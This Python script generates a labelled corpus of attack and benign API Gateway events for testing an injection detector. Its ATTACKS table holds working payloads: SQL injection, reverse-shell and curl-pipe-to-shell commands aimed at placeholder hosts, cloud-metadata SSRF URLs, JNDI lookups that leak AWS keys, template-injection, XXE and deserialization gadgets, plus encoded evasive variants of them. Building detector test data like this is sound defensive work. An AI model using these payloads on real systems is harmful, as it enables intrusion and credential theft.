#!/usr/bin/env python3
"""Writes the injection corpus of coldtrail's event-injection detection:

  detect/tests/data/injection/attacks.jsonl  {"class": ..., "form": ..., "payload": <API Gateway event JSON>}
  detect/tests/data/injection/benign.jsonl   {"kind": ..., "payload": <API Gateway event JSON>}

Attacks are classic payloads per class and their evasive forms (URL, double URL, HTML entities, unicode
escapes, base64, mixed case, comments / separators), placed where attackers put them: query string, JSON
body, form body, path, headers. Benign payloads are real-looking API traffic: JSON bodies of orders, users
and comments (names with apostrophes, prose with SQL and shell words, quotes, ampersands), base64 images,
URLs with query strings, templates with placeholders, markdown and code-ish text.

Deterministic (seeded). Run: python3 bench/injection_corpus.py
"""
import base64
import html
import json
import os
import random
import urllib.parse

rng = random.Random(20261122)

ATTACKS = {
    "sql": [
        "' OR '1'='1", "' OR 1=1--", "admin'--", "1' UNION SELECT username, password FROM users--",
        "1 UNION ALL SELECT NULL,NULL,version()--", "'; DROP TABLE users;--", "1; DELETE FROM orders",
        "1' AND SLEEP(5)--", "1' WAITFOR DELAY '0:0:5'--", "1' AND extractvalue(1,concat(0x7e,version()))--",
        "' OR 'x'='x", "\" OR \"\"=\"", "1' ORDER BY 3--", "') OR ('a'='a",
        "1 AND 1=1", "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "1' AND pg_sleep(5)--",
        "'; EXEC xp_cmdshell('whoami')--", "1' AND benchmark(5000000,md5(1))--", "' UNION SELECT @@version--",
        "x' AND 1=(SELECT 1 FROM sqlite_master)--", "1' || (SELECT load_file('/etc/passwd'))--",
    ],
    "command": [
        "; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "; curl http://203.0.113.5/x.sh | sh",
        "|| wget http://evil.example/a -O /tmp/a", "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "& nslookup x.attacker.example", "; nc -e /bin/sh 203.0.113.5 4444", "$(curl -s http://203.0.113.5)",
        "; python3 -c 'import os;os.system(\"id\")'", "| powershell -enc SQBFAFgA", "test; sleep 10",
        "; uname -a", "a&&cat${IFS}/etc/passwd", "; rm -rf /tmp/x", "| busybox nc 203.0.113.5 80",
        "; echo cHduZWQ= | base64 -d | sh", "x||ping -c 3 203.0.113.5", "; env", "`curl attacker.example`",
    ],
    "path_traversal": [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd",
        "/proc/self/environ", "../../../proc/self/environ", "file:///etc/passwd", "/etc/shadow",
        "../../../../var/task/lambda_function.py", "..%c0%af..%c0%afetc/passwd", "../../.aws/credentials",
        "php://filter/convert.base64-encode/resource=index.php", "/var/runtime/bootstrap",
        "../../../../../../root/.ssh/id_rsa", "..//..//..//etc//hosts", "../../../.env",
        "..\\..\\..\\..\\boot.ini", "images/../../../../etc/group", "/../../../../etc/issue",
    ],
    "metadata_ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/api/token",
        "http://[fd00:ec2::254]/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
        "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/latest/meta-data/", "http://0251.0376.0251.0376/",
        "http://[::ffff:169.254.169.254]/latest/user-data", "http://169.254.170.2/v2/credentials/",
        "http://instance-data/latest/meta-data/", "gopher://169.254.169.254:80/_GET%20/latest/meta-data",
        "http://100.100.100.200/latest/meta-data/", "http://metadata.azure.com/metadata/instance?api-version=2021-02-01",
        "http://169.254.169.254.nip.io/latest/meta-data/", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
        "http://169.254.169.254/latest/dynamic/instance-identity/document",
    ],
    "jndi": [
        "${jndi:ldap://203.0.113.5:1389/a}", "${jndi:rmi://attacker.example/x}", "${jndi:dns://x.attacker.example}",
        "${${lower:j}ndi:${lower:l}dap://x.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}", "${jndi:ldaps://x.example/a}",
        "${${upper:j}ndi:ldap://x.example/a}", "${j${::-n}di:ldap://x.example/a}", "${jndi:iiop://x.example/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", "${jndi:corba://x.example/a}",
    ],
    "template": [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "#set($x = $class.inspect(\"java.lang.Runtime\"))", "{{constructor.constructor('return process')()}}",
        "{% import os %}{{os.system('id')}}", "{{lipsum.__globals__['os'].popen('id').read()}}", "${{7*7}}",
        "{{ 7 * '7' }}", "<%= system('id') %>",
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://203.0.113.5/evil.dtd\"> %xxe;]><foo/>",
        "<?xml version=\"1.0\"?><!DOCTYPE data [<!ENTITY meta SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><data>&meta;</data>",
        "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE order [<!ENTITY id PUBLIC \"x\" \"http://x.example/a\">]><order>&id;</order>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]><svg>&x;</svg>",
        "<!ENTITY % file SYSTEM \"file:///etc/hostname\">",
    ],
    "deserialization": [
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
        "aced0005737200116a6176612e7574696c2e486173684d6170",
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", "O:24:\"Monolog\\Handler\\SyslogUdp\":1:{s:6:\"socket\";N;}",
        "a:2:{i:0;s:3:\"abc\";i:1;O:4:\"Evil\":0:{}}", "!!python/object/apply:os.system [\"id\"]",
        "!!python/object/new:subprocess.Popen [[\"id\"]]", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
        "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}",
        "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.example/a\",\"autoCommit\":true}",
        "cos\nsystem\n(S'id'\ntR.", "gASVLAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
        "org.apache.commons.collections.functors.InvokerTransformer", "{\"@type\":\"java.lang.AutoCloseable\"}",
        "!!js/function 'function(){ return process.mainModule.require(\"child_process\").execSync(\"id\") }'",
    ],
    "nosql": [
        "{\"username\":\"admin\",\"password\":{\"$ne\":null}}", "{\"username\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"}}",
        "{\"$where\":\"this.password.match(/^a/)\"}", "username[$ne]=x&password[$ne]=x", "{\"user\":{\"$regex\":\"^adm\"}}",
        "{\"email\":{\"$in\":[\"a@x.example\",\"admin@x.example\"]},\"password\":{\"$exists\":true}}",
        "'; return true; var x='", "{\"$or\":[{\"a\":1},{\"b\":{\"$ne\":2}}]}", "login[$regex]=a.*&pass[$ne]=1",
        "{\"age\":{\"$where\":\"sleep(5000)\"}}", "' || '1'=='1", "{\"id\":{\"$nin\":[]}}", "{\"q\":{\"$expr\":{\"$eq\":[1,1]}}}",
        "this.password.length > 0", "db.users.find({})",
    ],
}


def url(s):
    return urllib.parse.quote(s, safe="")


def evasions(cls, payload):
    """Classic form and evasive forms of one payload."""
    forms = [("plain", payload), ("url", url(payload)), ("double_url", url(url(payload)))]
    forms.append(("html", "".join("&#x%x;" % ord(c) if not c.isalnum() else c for c in payload)))
    forms.append(("unicode", "".join("\\u%04x" % ord(c) if not c.isalnum() else c for c in payload)))
    forms.append(("base64", base64.b64encode(payload.encode()).decode()))
    forms.append(("case", "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in payload) if cls not in ("deserialization", "path_traversal") else payload))
    if cls == "sql":
        forms.append(("comments", payload.replace(" ", "/**/")))
    if cls == "command":
        forms.append(("ifs", payload.replace(" ", "${IFS}")))
    return forms


def api_event(where, value):
    event = {
        "resource": "/items/{id}", "path": "/items/42", "httpMethod": "GET",
        "headers": {"Accept": "application/json", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Host": "api.example.com"},
        "queryStringParameters": None, "pathParameters": {"id": "42"}, "body": None, "isBase64Encoded": False,
        "requestContext": {"requestId": "c6af9ac6-7b61-11e6-9a41-93e8deadbeef", "identity": {"sourceIp": "203.0.113.77"}, "stage": "prod"},
    }
    if where == "query":
        event["queryStringParameters"] = {"q": value, "page": "1"}
    elif where == "json_body":
        event["httpMethod"] = "POST"
        event["body"] = json.dumps({"search": value, "limit": 20})
    elif where == "form_body":
        event["httpMethod"] = "POST"
        event["body"] = "name=" + value + "&submit=Send"
    elif where == "path":
        event["path"] = "/items/" + value
        event["pathParameters"] = {"id": value}
    elif where == "header":
        event["headers"]["User-Agent"] = value
    elif where == "raw_body":
        event["httpMethod"] = "POST"
        event["body"] = value
    return event


def attacks():
    out = []
    for cls, payloads in ATTACKS.items():
        for payload in payloads:
            for form, text in evasions(cls, payload):
                if cls == "nosql" and form == "plain" and payload.startswith("{"):
                    where = "raw_body"
                elif cls == "xxe":
                    where = "raw_body"
                else:
                    where = rng.choice(["query", "json_body", "form_body", "header", "path"])
                out.append({"class": cls, "form": form, "payload": json.dumps(api_event(where, text))})
    return out


FIRST = ["Conor", "Siobhan", "Mary", "D'Arcy", "José", "Zoë", "Ahmed", "Li", "Olga", "Sam", "Chloé", "Jean-Luc", "Bob"]
LAST = ["O'Brien", "O'Neil", "Smith", "García", "Müller", "Nguyen", "van der Berg", "D'Souza", "Kowalski", "Ó Súilleabháin"]
PROSE = [
    "Please select the items from the table where you left them.",
    "Tom & Jerry -- the union of cats and mice; or so they say.",
    "I'd like to drop my subscription and delete my account, or update the plan.",
    "Where is my order? It's been 3 days and the status says 'shipped' or 'pending'.",
    "Can you insert a note: \"handle with care\" & ring twice?",
    "The script failed with exit code 1; see logs for details.",
    "Use the sleep timer or set an alarm for 7am.",
    "My cat's name is Echo and my dog's name is Ping.",
    "The price was 1=1 deal: buy one, get one free!",
    "Select all that apply: red, green, or blue.",
    "We're the #1 choice for customers in the union of European states.",
    "Reminder: backups run at 02:00 UTC; restore from /backups/daily if needed.",
    "Her email is jane.o'connor@example.com and her phone is +1 (555) 010-0199.",
    "C:\\Users\\sam\\Documents\\report.docx was uploaded",
    "The formula is x = (a + b) * c / 2, or roughly 7*7 = 49.",
    "Great product!!! 5/5 would buy again :) <3",
    "Ship to: 12 Rue de l'Église, 75001 Paris",
    "Meeting notes: discuss Q3 plan; update roadmap; delete stale tickets from backlog.",
    "Order #4521 -- 2x \"Deluxe\" mugs & 1x teapot",
    "I love the new feature where you can execute reports from the dashboard.",
    "Error: cannot find module 'express' in /app",
    "Run `npm install` and then `npm test` to verify.",
    "Sleep well, and call me at 9; echo my thanks to the team.",
    "The $ sign and the {braces} are reserved characters in our template language.",
    "Dear {{first_name}}, your order {{order_id}} ships today.",
    "Hello ${name}, welcome back!",
    "SELECT is a keyword; so are FROM and WHERE. This is a quiz question.",
    "Path: /api/v1/users/42/orders?status=open&sort=desc",
    "Version 2.0.1 was released on 2024-08-01 (see CHANGELOG.md).",
    "Cost: $5.99 + tax; total < $10 > $5",
]
PRODUCTS = ["Mug", "Teapot", "Kettle", "T-shirt (L)", "Notebook A5", "USB-C cable 2m", "Desk lamp", "Plant pot ø12cm"]
HOSTS = ["https://example.com", "https://shop.example.org", "https://cdn.example.net", "http://localhost:3000"]


def png_base64():
    header = bytes([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52])
    body = bytes(rng.randrange(256) for _ in range(rng.randrange(200, 800)))
    return base64.b64encode(header + body).decode()


def benign_value(kind):
    name = rng.choice(FIRST) + " " + rng.choice(LAST)
    if kind == "order":
        return json.dumps({"customer": name, "items": [{"sku": "SKU-%04d" % rng.randrange(10000), "name": rng.choice(PRODUCTS), "qty": rng.randrange(1, 5)} for _ in range(rng.randrange(1, 4))], "note": rng.choice(PROSE), "total": round(rng.uniform(3, 300), 2), "currency": "EUR"})
    if kind == "user":
        return json.dumps({"name": name, "email": name.lower().replace(" ", ".").replace("'", "") + "@example.com", "bio": rng.choice(PROSE), "address": rng.choice(PROSE[16:17] + ["1 Main St, Springfield", "Flat 2, 10 O'Connell St, Dublin"]), "marketing": rng.random() < 0.5})
    if kind == "comment":
        return json.dumps({"post_id": rng.randrange(1000), "author": name, "text": " ".join(rng.sample(PROSE, 2)), "rating": rng.randrange(1, 6)})
    if kind == "image":
        return json.dumps({"filename": "photo-%d.png" % rng.randrange(1000), "content_type": "image/png", "data": png_base64()})
    if kind == "url":
        host = rng.choice(HOSTS)
        query = urllib.parse.urlencode({"q": rng.choice(PROSE)[:40], "page": rng.randrange(1, 9), "sort": "price_asc"})
        return json.dumps({"callback_url": host + "/webhooks/orders?" + query, "redirect": host + "/thanks#section-2"})
    if kind == "search":
        return rng.choice(PROSE)
    if kind == "template":
        return json.dumps({"subject": "Hello {{first_name}}", "body": "Dear {{first_name}} {{last_name}},\n\nYour invoice {{invoice.number}} of {{invoice.total}} is due on {{due_date}}.\n\n{{#if vip}}Thanks for being a VIP!{{/if}}", "locale": "en-GB"})
    if kind == "markdown":
        return json.dumps({"title": "Release notes", "markdown": "# v2.1\n\n- Fixed login with emails containing `+` and `'`\n- Run `make test` before `git push`\n- See [docs](https://docs.example.com/a/b?x=1&y=2)\n\n> Don't forget: backups at 02:00"})
    if kind == "graphql":
        return json.dumps({"query": "query($id: ID!) { order(id: $id) { id status items { name qty } } }", "variables": {"id": str(rng.randrange(99999))}})
    if kind == "sql_word_filters":
        return json.dumps({"filter": {"status": rng.choice(["open", "closed"]), "created_after": "2024-07-01", "order_by": rng.choice(["created_at", "total"]), "direction": "desc"}, "select": ["id", "total", "status"]})
    raise ValueError(kind)


BENIGN_KINDS = ["order", "user", "comment", "image", "url", "search", "template", "markdown", "graphql", "sql_word_filters"]


def benign():
    out = []
    for i in range(520):
        kind = BENIGN_KINDS[i % len(BENIGN_KINDS)]
        value = benign_value(kind)
        where = "query" if kind == "search" else ("json_body" if kind in ("url",) else "raw_body")
        if where == "query" and rng.random() < 0.5:
            value = urllib.parse.quote_plus(value)
        out.append({"kind": kind, "payload": json.dumps(api_event(where, value))})
    return out


def main():
    root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "detect", "tests", "data", "injection")
    os.makedirs(root, exist_ok=True)
    a = attacks()
    b = benign()
    with open(os.path.join(root, "attacks.jsonl"), "w") as f:
        for row in a:
            f.write(json.dumps(row) + "\n")
    with open(os.path.join(root, "benign.jsonl"), "w") as f:
        for row in b:
            f.write(json.dumps(row) + "\n")
    print(f"{len(a)} attack payloads, {len(b)} benign payloads in {root}")


if __name__ == "__main__":
    main()
